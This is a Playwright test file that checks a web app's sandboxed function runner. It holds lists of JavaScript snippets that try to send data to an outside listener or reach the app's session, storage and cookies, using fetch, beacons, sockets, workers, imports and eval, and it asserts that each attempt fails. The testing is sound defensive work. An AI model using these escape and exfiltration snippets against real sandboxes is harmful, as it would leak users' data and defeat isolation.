import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "@playwright/test";
import { test as base, expect } from "./fixtures";
import { FunctionsPage } from "./functions-page";

/** A server of somebody else, who would like to hear something. */
type Listener = { url: string; host: string; heard: string[] };

const test = base.extend<{ listener: Listener }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads what a fixture needs from this pattern.
  listener: async ({}, use) => {
    const heard: string[] = [];
    const server = createServer((request, response) => {
      heard.push(`${request.method} ${request.url}`);
      response.setHeader("access-control-allow-origin", "*");
      response.end("export default 1;");
    });
    server.on("connection", () => heard.push("a connection"));
    server.on("upgrade", (request, socket) => {
      heard.push(`upgrade ${request.url}`);
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
    await use({ url: `http://${host}`, host, heard });
    server.close();
  },
});

// What the browser says of each way that its rules have closed.
test.use({
  expectedConsole: [/Content Security Policy|Refused|violates|ERR_|Failed to (load|fetch)|denied/i],
  expectedViolations: [/./],
});

const LIMIT = "The function took longer than 10 seconds.";

/** The form of a new function, in which code is tried as a call runs it. */
class Trial {
  readonly page: Page;
  readonly outcome;

  constructor(page: Page) {
    this.page = page;
    this.outcome = page.getByRole("status", { name: "Outcome" });
  }

  async open(): Promise<void> {
    await this.page.goto("/");
    const functions = new FunctionsPage(this.page);
    const menu = this.page.getByRole("menu");
    await expect(async () => {
      if (!(await menu.isVisible()))
        await this.page.getByRole("button", { name: "Tools", exact: true }).click();
      await menu.getByRole("menuitem", { name: "Set up Functions" }).click({ timeout: 2_000 });
    }).toPass();
    await functions.dialog.getByRole("button", { name: "New function" }).click();
    await functions.dialog.getByRole("button", { name: "Try it" }).click();
  }

  async start(code: string): Promise<void> {
    await this.page.getByRole("textbox", { name: "JavaScript" }).fill(code);
    await this.page.getByRole("button", { name: "Run", exact: true }).click();
  }

  /** What came of the code: its label and its text. */
  async run(code: string): Promise<string> {
    await this.start(code);
    await expect(this.outcome).toHaveText(/^(Result|Error)/, { timeout: 20_000 });
    return (await this.outcome.textContent()) ?? "";
  }
}

/** Ways to reach another machine. Each returns "reached" where it did. */
const waysOut = ({ url, host }: Listener, app: string): Record<string, string> => ({
  fetch: `await fetch("${url}/a"); return "reached";`,
  "fetch without CORS": `await fetch("${url}/b?" + JSON.stringify(args), { mode: "no-cors" }); return "reached";`,
  "fetch that outlives": `await fetch("${url}/c", { method: "POST", body: "x", keepalive: true }); return "reached";`,
  "fetch of this app": `await fetch("${app}/api/functions", { credentials: "include" }); return "reached";`,
  "a write to this app": `await fetch("${app}/api/session", { method: "POST", body: "{}", headers: { "content-type": "application/json" } }); return "reached";`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("GET", "${url}/d", false); x.send(); return "reached";`,
  WebSocket: `return await new Promise((end) => { const s = new WebSocket("ws://${host}/e"); s.onopen = () => end("reached"); s.onerror = () => end("closed"); });`,
  WebSocketStream: `await new WebSocketStream("ws://${host}/f").opened; return "reached";`,
  EventSource: `return await new Promise((end) => { const s = new EventSource("${url}/g"); s.onopen = () => end("reached"); s.onerror = () => end("closed"); });`,
  WebTransport: `await new WebTransport("https://${host}/h").ready; return "reached";`,
  WebRTC: `new RTCPeerConnection({ iceServers: [{ urls: "stun:${host}" }] }).createDataChannel("x"); return "reached";`,
  importScripts: `importScripts("${url}/i"); return "reached";`,
  "import of another machine": `await import("${url}/j"); return "reached";`,
  "import of an address made of text": `await import("data:text/javascript,0"); return "reached";`,
  "a script of its own making": `importScripts(URL.createObjectURL(new Blob(["0"]))); return "reached";`,
  "a worker of another machine": `const w = new Worker("${url}/k"); return await new Promise((end) => { w.onerror = () => end("closed"); setTimeout(() => end("closed"), 500); });`,
  "a worker within the worker": `const text = 'fetch("${url}/l").then(() => postMessage("reached"), () => postMessage("closed"))'; const w = new Worker(URL.createObjectURL(new Blob([text]))); return await new Promise((end) => { w.onmessage = ({ data }) => end(data); w.onerror = () => end("closed"); });`,
  "a font": `await new FontFace("x", "url(${url}/m)").load(); return "reached";`,
  sendBeacon: `if (!navigator.sendBeacon("${url}/n", "x")) throw new Error("closed"); return "reached";`,
  "a picture": `new Image().src = "${url}/o"; return "reached";`,
  "going to another page": `location.href = "${url}/p"; location.assign("${url}/q"); return "reached";`,
  "a window": `open("${url}/r"); return "reached";`,
  "a form": `const f = document.createElement("form"); f.action = "${url}/s"; f.submit(); return "reached";`,
  prefetching: `const l = document.createElement("link"); l.rel = "prefetch"; l.href = "${url}/t"; document.head.append(l); return "reached";`,
  "code from text": `return new Function("return fetch('${url}/u').then(() => 'reached')")();`,
  eval: `return eval("fetch('${url}/v').then(() => 'reached')");`,
  WebAssembly: `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return "reached";`,
});

test("code of a function reaches no other machine, and not this app, in any of its ways", async ({
  page,
  app,
  listener,
}) => {
  test.slow();
  const trial = new Trial(page);
  await trial.open();
  for (const [way, code] of Object.entries(waysOut(listener, app.url))) {
    expect.soft(await trial.run(code), way).not.toContain("reached");
  }
  expect(listener.heard).toEqual([]);
  const sessions = (await page.context().cookies()).filter(({ httpOnly }) => httpOnly);
  expect(sessions, "nobody has become an owner").toEqual([]);
  // The listener does hear: from a page without our policy the same words reach it.
  const blank = await page.context().newPage();
  await blank.evaluate((address) => fetch(address, { mode: "no-cors" }), `${listener.url}/heard`);
  expect(listener.heard).toContain("GET /heard");
});

const WAYS_IN: Record<string, string> = {
  "the document": "return document.title;",
  "the window": "return window.name;",
  "the page around": "parent.postMessage('x', '*'); return 'reached';",
  "the top": "return top.location.href;",
  "the opener": "return opener.location.href;",
  localStorage: "localStorage.setItem('a', 'b'); return 'reached';",
  sessionStorage: "sessionStorage.setItem('a', 'b'); return 'reached';",
  IndexedDB:
    "return await new Promise((end, fail) => { const r = indexedDB.open('a'); r.onsuccess = () => end('reached'); r.onerror = () => fail(r.error); });",
  caches: "await caches.open('a'); return 'reached';",
  "the cookie store": "await cookieStore.set('a', 'b'); return 'reached';",
  "files of its own": "await navigator.storage.getDirectory(); return 'reached';",
  locks: "return await navigator.locks.request('parley.session', () => 'reached');",
  "a service worker": "await navigator.serviceWorker.register('/x.js'); return 'reached';",
  "the port of its frame": "postMessage('reached'); return 'reached';",
  notifications:
    "new Notification('reached'); if (Notification.permission !== 'granted') throw 0; return 'reached';",
};

test("code of a function sees nothing of the page, of cookies or of any storage", async ({ page }) => {
  test.slow();
  const trial = new Trial(page);
  await trial.open();
  for (const [way, code] of Object.entries(WAYS_IN)) {
    expect.soft(await trial.run(code), way).toMatch(/^Error/);
  }
  expect(await trial.run("return self.origin;"), "it has no origin").toContain("null");
  expect(await page.evaluate(() => Object.keys(localStorage).includes("a"))).toBe(false);
});

test("code of a function is not heard in the channels of the app", async ({ page }) => {
  const trial = new Trial(page);
  await trial.open();
  await page.evaluate(() => {
    const heard: unknown[] = [];
    Object.assign(window, { heard });
    addEventListener("message", ({ data }) => heard.push(data));
    new BroadcastChannel("parley.threads").addEventListener("message", ({ data }) => heard.push(data));
  });
  await trial.run("new BroadcastChannel('parley.threads').postMessage('x'); return 1;");
  expect(await page.evaluate(() => Reflect.get(window, "heard"))).toEqual([]);
});

for (const [way, code] of Object.entries({
  "a loop without end": "for (;;);",
  "a promise that is never kept": "await new Promise(() => undefined);",
  "a worker that ends itself": "close(); await new Promise(() => undefined);",
})) {
  test(`${way} is ended at the limit, and the page can be used meanwhile`, async ({ page }) => {
    const trial = new Trial(page);
    await trial.open();
    await trial.start(code);
    const name = page.getByRole("textbox", { name: "Name", exact: true });
    await name.fill("still_awake");
    await expect(name).toHaveValue("still_awake");
    await expect(trial.outcome).toContainText(LIMIT, { timeout: 20_000 });
    await expect.poll(() => page.workers().length).toBe(0);
    await expect.poll(() => page.frames().length).toBe(1);
    expect(await trial.run("return 1 + 1;")).toMatch(/^Result\s*2$/);
  });
}

test("words of an extension in the frame do not keep a function from running", async ({ page }) => {
  await page.addInitScript(() => {
    if (parent === window) return;
    document.addEventListener("DOMContentLoaded", () => {
      for (const data of [null, "hello"]) dispatchEvent(new MessageEvent("message", { data }));
    });
  });
  const trial = new Trial(page);
  await trial.open();
  expect(await trial.run("return 1 + 1;")).toMatch(/^Result\s*2$/);
});

test("nothing goes on after the result", async ({ page, listener }) => {
  const trial = new Trial(page);
  await trial.open();
  expect(await trial.run("setInterval(() => { for (;;); }, 1); return 'done';")).toMatch(/^Result\s*done$/);
  await expect.poll(() => page.workers().length).toBe(0);
  await expect.poll(() => page.frames().length).toBe(1);
  expect(listener.heard).toEqual([]);
});

test("no flood of output gets out", async ({ page }) => {
  test.slow();
  const trial = new Trial(page);
  await trial.open();
  const lines: string[] = [];
  page.on("console", (message) => lines.push(message.text()));
  const tooLong =
    /^Error\s*Error: The result is longer than 64 KB\.$|^Error\s*The result is longer than 64 KB\.$/;
  expect(await trial.run("return 'x'.repeat(64_001);"), "no more than a request may carry").toMatch(tooLong);
  expect(await trial.run("return 'x'.repeat(64_000);")).toMatch(/^Result\s*x{100}/);
  expect(await trial.run("return 'é'.repeat(40_000);"), "bytes count, not characters").toMatch(tooLong);
  expect(await trial.run("return Array.from({ length: 50_000 }, () => 1);")).toMatch(tooLong);
  expect((await trial.run("throw new Error('x'.repeat(1e7));")).length).toBeLessThan(5_000);
  expect(
    (await trial.run("setTimeout(() => { throw 'x'.repeat(1e7); }); await new Promise(() => {});")).length,
  ).toBeLessThan(5_000);
  expect(await trial.run("for (let i = 0; i < 1e5; i++) console.log('flood'); return 'quiet';")).toContain(
    "quiet",
  );
  expect(lines.filter((line) => line.includes("flood"))).toEqual([]);
});

test("what code answers and throws is told as it is", async ({ page }) => {
  const trial = new Trial(page);
  await trial.open();
  expect(await trial.run("return { a: [1, 'b'] };")).toMatch(/^Result\s*\{"a":\[1,"b"\]\}$/);
  expect(await trial.run("")).toMatch(/^Result\s*null$/);
  expect(await trial.run("throw new TypeError('No such thing.');")).toMatch(
    /^Error\s*TypeError: No such thing\.$/,
  );
  expect(await trial.run("return 'a' + String.fromCharCode(0, 0xd800) + 'b';")).toMatch(
    /^Result\s*a\ufffd\ufffdb$/,
  );
  expect(await trial.run("return (")).toMatch(/^Error\s*.*SyntaxError/);
  expect(await trial.run("const a = {}; a.a = a; return a;")).toMatch(/^Error\s*TypeError/);
  expect(await trial.run("}; (() => {"), "its end cannot be written in the code").toMatch(/^(Error|Result)/);
});

test("the frame of functions takes nothing from anywhere, and stands in this app alone", async ({
  client,
}) => {
  const response = await client.fetch("/embed/function-frame");
  const policy = response.headers.get("content-security-policy") ?? "";
  expect(policy.split("; ").sort()).toEqual([
    "base-uri 'none'",
    "default-src 'none'",
    "form-action 'none'",
    "frame-ancestors 'self'",
    "sandbox allow-scripts",
    expect.stringMatching(/^script-src 'sha256-[\w+/]{43}='$/),
    "worker-src blob:",
  ]);
  expect(response.headers.get("referrer-policy")).toBe("no-referrer");
});
